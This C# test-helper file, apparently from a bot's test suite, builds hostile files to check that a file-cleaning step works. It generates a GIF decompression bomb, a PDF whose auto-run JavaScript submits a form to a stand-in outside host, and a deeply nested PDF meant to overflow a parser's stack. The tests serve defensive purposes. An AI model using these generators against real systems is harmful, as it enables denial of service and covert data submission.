using SkiaSharp;

namespace NetralBot.Tests.Hostile;

/// <summary>Crafted evidence files, made by code here (never binary blobs from elsewhere).</summary>
public static class HostileFiles
{
    /// <summary>
    /// An animated GIF whose canvas is <paramref name="canvas"/>² but whose frames are 1×1: a few hundred bytes
    /// that a decoder rendering every frame onto the full canvas turns into gigabytes.
    /// </summary>
    public static byte[] GifBomb(int canvas, int frames) => Gif(canvas, canvas, frames, 1, 1);

    /// <summary>A small valid animated GIF (two colours, every frame the full canvas).</summary>
    public static byte[] SmallGif() => Gif(16, 12, 3, 16, 12);

    public static byte[] Jpeg() => Encode(SKEncodedImageFormat.Jpeg);

    public static byte[] Png() => Encode(SKEncodedImageFormat.Png);

    public static byte[] Webp() => Encode(SKEncodedImageFormat.Webp);

    /// <summary>A one-page PDF with an author, as a phone or laptop would write it.</summary>
    public static byte[] Pdf()
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        document.Info.Author = "Budi Santoso Pelapor";
        document.AddPage();
        using var stream = new MemoryStream();
        document.Save(stream, false);
        return stream.ToArray();
    }

    /// <summary>Words that must not survive cleaning: each marks one way a PDF can act or name its author.</summary>
    public static readonly string[] ActivePdfMarkers =
    [
        "OPENACTION-SUBMIT", "https://pengintai.example/terima", "PAGE-AA-SCRIPT", "DOC-LEVEL-SCRIPT", "LAMPIRAN-RAHASIA",
        "Budi Santoso Pelapor", "XMP-HALAMAN", "LINK-URI-KELUAR",
    ];

    /// <summary>
    /// A PDF that acts and tells: an /OpenAction JavaScript that submits a form to an outside address, a page /AA
    /// script, document-level JavaScript, an embedded file, a file-attachment and a text annotation with their
    /// author, a link to an outside URL, and XMP on a page.
    /// </summary>
    public static byte[] ActivePdf()
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        var page = document.AddPage();
        PdfSharp.Pdf.PdfDictionary Dict(params (string Key, PdfSharp.Pdf.PdfItem Value)[] items)
        {
            var d = new PdfSharp.Pdf.PdfDictionary(document);
            foreach (var (key, value) in items)
            {
                d.Elements[key] = value;
            }
            document.Internals.AddObject(d);
            return d;
        }
        PdfSharp.Pdf.PdfItem Name(string n) => new PdfSharp.Pdf.PdfName(n);
        PdfSharp.Pdf.PdfItem Text(string t) => new PdfSharp.Pdf.PdfString(t);
        var catalog = document.Internals.Catalog;
        catalog.Elements["/OpenAction"] = Dict(("/S", Name("/JavaScript")), ("/JS", Text("this.submitForm('https://pengintai.example/terima'); // OPENACTION-SUBMIT"))).Reference;
        page.Elements["/AA"] = Dict(("/O", Dict(("/S", Name("/JavaScript")), ("/JS", Text("app.alert('PAGE-AA-SCRIPT')"))).Reference!)).Reference;
        var attached = new PdfSharp.Pdf.PdfDictionary(document);
        attached.CreateStream(System.Text.Encoding.ASCII.GetBytes("LAMPIRAN-RAHASIA isi berkas tersembunyi"));
        document.Internals.AddObject(attached);
        var fileSpec = Dict(("/Type", Name("/Filespec")), ("/F", Text("lampiran.txt")), ("/EF", Dict(("/F", attached.Reference!)).Reference!));
        var docScript = Dict(("/S", Name("/JavaScript")), ("/JS", Text("app.alert('DOC-LEVEL-SCRIPT')")));
        var scripts = new PdfSharp.Pdf.PdfArray(document, Text("init"), docScript.Reference!);
        var files = new PdfSharp.Pdf.PdfArray(document, Text("lampiran.txt"), fileSpec.Reference!);
        catalog.Elements["/Names"] = Dict(("/JavaScript", Dict(("/Names", scripts)).Reference!), ("/EmbeddedFiles", Dict(("/Names", files)).Reference!)).Reference;
        var rect = new PdfSharp.Pdf.PdfArray(document, new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(50), new PdfSharp.Pdf.PdfInteger(50));
        var note = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/Text")), ("/Rect", rect), ("/T", Text("Budi Santoso Pelapor")), ("/Contents", Text("catatan")));
        var attachment = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/FileAttachment")), ("/Rect", rect.Clone()), ("/T", Text("Budi Santoso Pelapor")), ("/FS", fileSpec.Reference!));
        var link = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/Link")), ("/Rect", rect.Clone()),
            ("/A", Dict(("/S", Name("/URI")), ("/URI", Text("https://keluar.example/LINK-URI-KELUAR"))).Reference!));
        page.Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(document, note.Reference!, attachment.Reference!, link.Reference!);
        var xmp = new PdfSharp.Pdf.PdfDictionary(document);
        xmp.CreateStream(System.Text.Encoding.UTF8.GetBytes("<x:xmpmeta>XMP-HALAMAN</x:xmpmeta>"));
        document.Internals.AddObject(xmp);
        page.Elements["/Metadata"] = xmp.Reference;
        using var stream = new MemoryStream();
        document.Save(stream, false);
        return stream.ToArray();
    }

    /// <summary>
    /// A PDF whose catalog holds an array nested <paramref name="depth"/> levels deep, plainly or inside a Flate
    /// stream; PDFsharp's recursive parser overflows the stack on 200,000 levels (about 400 kB).
    /// </summary>
    public static byte[] DeeplyNestedPdf(int depth, bool compressed)
    {
        var nested = new string('[', depth) + new string(']', depth);
        var streamData = compressed ? Deflate(System.Text.Encoding.ASCII.GetBytes("3 0 " + nested)) : [];
        using var pdf = new MemoryStream();
        var offsets = new List<long>();
        void Write(string text) => pdf.Write(System.Text.Encoding.Latin1.GetBytes(text));
        Write("%PDF-1.5\n");
        offsets.Add(pdf.Position);
        Write("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + (compressed ? "[]" : nested) + " >>\nendobj\n");
        offsets.Add(pdf.Position);
        Write("2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
        offsets.Add(pdf.Position);
        Write($"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {streamData.Length} >>\nstream\n");
        pdf.Write(streamData);
        Write("\nendstream\nendobj\n");
        var xref = pdf.Position;
        Write("xref\n0 4\n0000000000 65535 f \n" + string.Concat(offsets.Select(o => $"{o:D10} 00000 n \n")));
        Write($"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return pdf.ToArray();
    }

    private static byte[] Deflate(byte[] data)
    {
        using var output = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(output, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(data);
        }
        return output.ToArray();
    }

    private static byte[] Encode(SKEncodedImageFormat format)
    {
        using var bitmap = new SKBitmap(48, 32);
        for (var y = 0; y < 32; y++)
        {
            for (var x = 0; x < 48; x++)
            {
                bitmap.SetPixel(x, y, new SKColor((byte)(x * 5), (byte)(y * 7), (byte)(x ^ y), 255));
            }
        }
        using var output = new MemoryStream();
        Assert.True(bitmap.Encode(output, format, 80));
        return output.ToArray();
    }

    private static byte[] Gif(int width, int height, int frames, int frameWidth, int frameHeight)
    {
        using var gif = new MemoryStream();
        using var w = new BinaryWriter(gif);
        w.Write("GIF89a"u8);
        w.Write((ushort)width);
        w.Write((ushort)height);
        w.Write((byte)0x80); // global colour table of 2 entries
        w.Write((byte)0);
        w.Write((byte)0);
        w.Write(new byte[] { 0, 0, 0, 255, 255, 255 });
        w.Write(new byte[] { 0x21, 0xFF, 11 });
        w.Write("NETSCAPE2.0"u8);
        w.Write(new byte[] { 3, 1, 0, 0, 0 }); // loop for ever
        for (var f = 0; f < frames; f++)
        {
            w.Write(new byte[] { 0x21, 0xF9, 4, 0, 10, 0, 0, 0 }); // 0.1 s per frame
            w.Write((byte)0x2C);
            w.Write((ushort)0);
            w.Write((ushort)0);
            w.Write((ushort)frameWidth);
            w.Write((ushort)frameHeight);
            w.Write((byte)0);
            w.Write((byte)2); // LZW minimum code size
            var pixels = Lzw(frameWidth * frameHeight, f);
            for (var i = 0; i < pixels.Length; i += 255)
            {
                var block = pixels.AsSpan(i, Math.Min(255, pixels.Length - i));
                w.Write((byte)block.Length);
                w.Write(block);
            }
            w.Write((byte)0);
        }
        w.Write((byte)0x3B);
        w.Flush();
        return gif.ToArray();
    }

    // The simplest valid LZW stream: a clear code before every two pixels keeps every code 3 bits wide.
    private static byte[] Lzw(int pixels, int seed)
    {
        var bits = new List<bool>();
        void Code(int code)
        {
            for (var b = 0; b < 3; b++)
            {
                bits.Add(((code >> b) & 1) == 1);
            }
        }
        for (var p = 0; p < pixels; p++)
        {
            if (p % 2 == 0)
            {
                Code(4);
            }
            Code((p + seed) % 2);
        }
        Code(5);
        var bytes = new byte[(bits.Count + 7) / 8];
        for (var i = 0; i < bits.Count; i++)
        {
            if (bits[i])
            {
                bytes[i / 8] |= (byte)(1 << (i % 8));
            }
        }
        return bytes;
    }
}
